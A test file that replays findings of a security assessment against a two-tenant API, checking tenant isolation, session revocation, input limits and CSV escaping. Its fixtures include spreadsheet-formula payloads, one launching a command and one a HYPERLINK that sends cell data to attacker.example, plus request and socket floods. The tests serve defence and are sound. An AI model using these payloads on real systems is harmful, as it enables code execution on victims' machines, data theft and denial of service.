/**
 * The findings of an independent attack on a running API (two tenants, acme and globex, each
 * with its own ingest key and users), each replayed with the request that showed it.
 */
import { io } from 'socket.io-client';
import {
  defaultTenantSettings,
  LIVE_NAMESPACE,
  type JoinAnswer,
  type SessionAnswer,
  type SignedOut,
} from '@mieruka/contracts';
import { TenantDirectory } from '../../apps/api/src/config/tenant-directory';
import { addUsers, login, startTestApp, type TestApp } from '../support/test-app';

const AT = '2026-11-24T10:07:00.000+09:00';
const ACME_KEY = 'acme-key-0123456789abcdef';
const GLOBEX_KEY = 'globex-key-0123456789abcdef';
const PASSWORD = 'attack-test-password-0123';

const tenants = () =>
  new TenantDirectory([defaultTenantSettings('acme'), defaultTenantSettings('globex')]);

describe('findings of the attack on two tenants', () => {
  let app: TestApp;
  let users: Record<'acme-manager' | 'acme-admin', string>;

  beforeAll(async () => {
    app = await startTestApp({
      at: AT,
      tenants: tenants(),
      env: { MIERUKA_INGEST_KEYS: `acme:${ACME_KEY},globex:${GLOBEX_KEY}` },
    });
    users = await addUsers(app, PASSWORD, [
      ['acme-manager', 'acme', 'manager'],
      ['acme-admin', 'acme', 'admin'],
      ['globexadmin', 'globex', 'admin'],
    ]);
  });
  afterAll(() => app?.close());

  const post = (key: string, events: readonly Record<string, unknown>[]) =>
    fetch(`${app.url}/api/v1/events`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/x-ndjson' },
      body: events.map((e) => JSON.stringify(e)).join('\n'),
    });
  const minutesBefore = (minutes: number) =>
    new Date(Date.parse(AT) - minutes * 60_000).toISOString();

  it('#3: a name a spreadsheet would run as a formula comes out of a CSV as text', async () => {
    const names = ["=cmd|' /C calc'!A0", '+1+1', '@SUM(1)', '-1+2'];
    const events = names.map((queue, i) => ({
      id: `formula-${i}`,
      tenant: 'acme',
      type: 'call.offered',
      occurredAt: minutesBefore(5),
      source: 'attack',
      callId: `formula-call-${i}`,
      direction: 'inbound',
      queue,
    }));
    events.push({
      id: 'formula-dial',
      tenant: 'acme',
      type: 'call.dialed',
      occurredAt: minutesBefore(5),
      source: 'attack',
      callId: 'formula-dial',
      direction: 'outbound',
      agentId: 'a1',
      campaign: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    } as unknown as (typeof events)[number]);
    expect((await post(ACME_KEY, events)).status).toBe(200);

    for (const groupBy of ['queue', 'campaign']) {
      const response = await fetch(
        `${app.url}/api/v1/kpis?groupBy=${groupBy}&format=csv&tenant=acme`,
        { headers: { authorization: `Bearer ${users['acme-manager']}` } },
      );
      expect(response.status).toBe(200);
      const rows = (await response.text())
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n');
      const keys = rows.slice(1).map((row) => /^"?([^,]*)/.exec(row)![1]!);
      expect(keys.length).toBeGreaterThan(0);
      // A cell a spreadsheet evaluates starts with = + - @ (after the quote, if quoted).
      expect(keys.filter((key) => /^[=+\-@\t\r]/.test(key))).toEqual([]);
      expect(keys.filter((key) => key.startsWith("'")).length).toBe(
        groupBy === 'queue' ? names.length : 1,
      );
    }
  });

  it('#4: events refused for claiming another tenant are filed under the key’s tenant', async () => {
    const claim = {
      id: 'claims-globex-1',
      tenant: 'globex',
      type: 'call.offered',
      occurredAt: minutesBefore(3),
      source: 'attack',
      callId: 'claims-globex-call',
      direction: 'inbound',
      queue: 'support',
    };
    const answer = await post(ACME_KEY, [claim]);
    expect(await answer.json()).toMatchObject({ accepted: 0, rejected: 1 });
    const letters = async (key: string) =>
      (await (
        await fetch(`${app.url}/api/v1/dead-letters?limit=1000`, {
          headers: { authorization: `Bearer ${key}` },
        })
      ).json()) as { payload: string }[];
    expect(
      (await letters(GLOBEX_KEY)).filter((l) => l.payload.includes('claims-globex-1')),
    ).toEqual([]);
    expect(
      (await letters(ACME_KEY)).filter((l) => l.payload.includes('claims-globex-1')),
    ).toHaveLength(1);
  });

  it('#10: a body over the limit gets its correlation id in the problem JSON', async () => {
    for (const given of [undefined, 'sender-chosen-id-1']) {
      const response = await fetch(`${app.url}/api/v1/events`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${ACME_KEY}`,
          'content-type': 'application/x-ndjson',
          ...(given ? { 'x-request-id': given } : {}),
        },
        body: '{}\n'.repeat(3 * 1024 * 1024), // 9 MiB, over the 8 MiB limit
      });
      expect(response.status).toBe(413);
      const problem = (await response.json()) as { correlationId: string };
      expect(problem.correlationId).not.toBe('');
      expect(problem.correlationId).toBe(response.headers.get('x-request-id'));
      if (given) expect(problem.correlationId).toBe(given);
    }
  });

  const addUser = async (token: string, username: string, tenant: string) =>
    fetch(`${app.url}/api/v1/users`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ username, password: PASSWORD, tenant, role: 'supervisor' }),
    });

  it('#6: a username is taken in every case: no ROOT beside root', async () => {
    expect((await addUser(await app.adminToken(), 'root', 'acme')).status).toBe(201);
    for (const variant of ['ROOT', 'Root', 'rOOt']) {
      expect((await addUser(await app.adminToken(), variant, 'globex')).status).toBe(409);
    }
    expect((await addUser(users['acme-admin'], 'ACME-MANAGER', 'acme')).status).toBe(409);
  });

  it('#7: a taken name says nothing of the tenant that holds it', async () => {
    const otherTenants = await addUser(users['acme-admin'], 'globexadmin', 'acme');
    const ownTenant = await addUser(users['acme-admin'], 'acme-manager', 'acme');
    expect([otherTenants.status, ownTenant.status]).toEqual([409, 409]);
    const [other, own] = (await Promise.all([otherTenants.json(), ownTenant.json()])) as {
      detail: string;
    }[];
    expect(other!.detail).toBe(own!.detail);
    expect(other!.detail).not.toMatch(/globex|exists/);
  });

  /** A screen of acme signed in with this access token, and the sign-out notice it gets. */
  async function screen(token: string): Promise<{ signedOut: Promise<SignedOut> }> {
    const client = io(`${app.url}${LIVE_NAMESPACE}`, {
      transports: ['websocket'],
      reconnection: false,
      auth: { token },
    });
    const signedOut = new Promise<SignedOut>((resolve) => client.once('signedOut', resolve));
    const joined = (await client
      .timeout(5_000)
      .emitWithAck('join', { tenant: 'acme' })) as JoinAnswer;
    expect(joined).toMatchObject({ ok: true });
    return { signedOut: signedOut.finally(() => client.close()) };
  }
  const liveWith = async (token: string) =>
    (
      await fetch(`${app.url}/api/v1/live?tenant=acme`, {
        headers: { authorization: `Bearer ${token}` },
      })
    ).status;
  const auth = (path: string, refreshToken: string) =>
    fetch(`${app.url}/api/v1/auth/${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ refreshToken }),
    });

  it('#5: a logout ends the sign-in’s access token and its sockets at once', async () => {
    const session = await login(app.url, 'acme-manager', PASSWORD);
    expect(await liveWith(session.accessToken)).toBe(200);
    const { signedOut } = await screen(session.accessToken);
    expect((await auth('logout', session.refreshToken)).status).toBe(204);
    expect(await signedOut).toEqual({ reason: 'revoked' });
    expect(await liveWith(session.accessToken)).toBe(401);
    // Another sign-in of the same user goes on.
    expect(await liveWith((await login(app.url, 'acme-manager', PASSWORD)).accessToken)).toBe(200);
  });

  it('#5: a reused refresh token ends every sign-in of the user, sockets included', async () => {
    const first = await login(app.url, 'acme-manager', PASSWORD);
    const renewed = (await (await auth('refresh', first.refreshToken)).json()) as SessionAnswer;
    const other = await login(app.url, 'acme-manager', PASSWORD);
    const { signedOut } = await screen(renewed.accessToken);
    expect((await auth('refresh', first.refreshToken)).status).toBe(401); // the stolen one
    expect(await signedOut).toEqual({ reason: 'revoked' });
    expect(await liveWith(renewed.accessToken)).toBe(401);
    expect(await liveWith(other.accessToken)).toBe(401);
  });

  it('#2: the same id in two tenants is two events, each stored and counted', async () => {
    const offered = (tenant: string) => ({
      id: 'preempt-1',
      tenant,
      type: 'call.offered',
      occurredAt: minutesBefore(2),
      source: 'attack',
      callId: `preempt-call-${tenant}`,
      direction: 'inbound',
      queue: 'preempt',
    });
    const answer = async (key: string, tenant: string) =>
      ((await (await post(key, [offered(tenant)])).json()) as { results: { status: string }[] })
        .results[0]?.status;
    expect(await answer(GLOBEX_KEY, 'globex')).toBe('accepted');
    expect(await answer(ACME_KEY, 'acme')).toBe('accepted');
    // Within a tenant an id is still one event, and globex learns nothing of acme's ids.
    expect(await answer(ACME_KEY, 'acme')).toBe('duplicate');
    expect(await answer(GLOBEX_KEY, 'globex')).toBe('duplicate');
    for (const tenant of ['acme', 'globex']) {
      const history = (await (
        await app.get(`/api/v1/kpis?groupBy=queue&tenant=${tenant}`)
      ).json()) as { rows: { key: string; kpis: { offered: number } }[] };
      expect(history.rows.find((r) => r.key === 'preempt')?.kpis.offered).toBe(1);
      const live = (await (
        await app.get(`/api/v1/live?tenant=${tenant}&scope=queue%3Apreempt`)
      ).json()) as {
        windows: { today: { offered: number } };
      };
      expect(live.windows.today.offered).toBe(1);
    }
  });

  it('#1: millions of lines are refused at the event limit, before any is parsed', async () => {
    // The attack's 2,796,000 lines, as NDJSON and as a JSON array, six at once; the lines
    // after the 10,000th are broken, which a parse of the whole body would have reported.
    const lines = 2_796_000;
    const bodies = [
      '{}\n'.repeat(10_001) + '{\n'.repeat(lines - 10_001),
      `[${'{},'.repeat(10_001)}${'{'.repeat(lines - 10_001)}]`,
    ];
    const answers = await Promise.all(
      [...bodies, ...bodies, ...bodies].map((body) =>
        fetch(`${app.url}/api/v1/events`, {
          method: 'POST',
          headers: { authorization: `Bearer ${ACME_KEY}`, 'content-type': 'application/x-ndjson' },
          body,
        }).then(async (r) => ({ status: r.status, ...((await r.json()) as { detail: string }) })),
      ),
    );
    // Six heavy bodies of one key: two at a time, two waiting, the rest turned away.
    const statuses = answers.map((a) => a.status).sort();
    expect(statuses.filter((s) => s === 413).length).toBeGreaterThanOrEqual(4);
    expect(statuses.every((s) => s === 413 || s === 429)).toBe(true);
    for (const answer of answers.filter((a) => a.status === 413)) {
      expect(answer.detail).toBe('body: more than 10000 events; at most 10000 per request');
    }
    expect((await fetch(`${app.url}/api/v1/ready`)).status).toBe(200);
  });

  it('#8: one socket’s flood of resyncs is refused past its budget', async () => {
    const { accessToken } = await login(app.url, 'acme-manager', PASSWORD);
    const client = io(`${app.url}${LIVE_NAMESPACE}`, {
      transports: ['websocket'],
      reconnection: false,
      auth: { token: accessToken },
    });
    try {
      const joined = (await client
        .timeout(5_000)
        .emitWithAck('join', { tenant: 'acme' })) as JoinAnswer;
      expect(joined).toMatchObject({ ok: true });
      const room = 'acme|tenant';
      const answers = (await Promise.all(
        Array.from({ length: 5_000 }, () => client.timeout(30_000).emitWithAck('resync', { room })),
      )) as JoinAnswer[];
      const snapshots = answers.filter((a) => a.ok).length;
      const refused = answers.filter(
        (a) => !a.ok && a.error === 'too many messages: at most 10 a second',
      ).length;
      expect(snapshots + refused).toBe(5_000);
      expect(snapshots).toBeGreaterThan(0);
      expect(snapshots).toBeLessThan(200);
    } finally {
      client.close();
    }
  });

  it('#8: one credential opens a bounded number of connections', async () => {
    const { accessToken } = await login(app.url, 'acme-manager', PASSWORD);
    const outcomes = await Promise.all(
      Array.from(
        { length: 200 },
        () =>
          new Promise<{ client: ReturnType<typeof io>; outcome: string }>((resolve) => {
            const client = io(`${app.url}${LIVE_NAMESPACE}`, {
              transports: ['websocket'],
              reconnection: false,
              forceNew: true,
              auth: { token: accessToken },
            });
            client.once('connect', () => resolve({ client, outcome: 'connected' }));
            client.once('connect_error', (e) => resolve({ client, outcome: e.message }));
          }),
      ),
    );
    for (const { client } of outcomes) client.close();
    const connected = outcomes.filter((o) => o.outcome === 'connected').length;
    expect(connected).toBe(20);
    expect(outcomes.filter((o) => o.outcome.startsWith('too many connections'))).toHaveLength(180);
  });
});
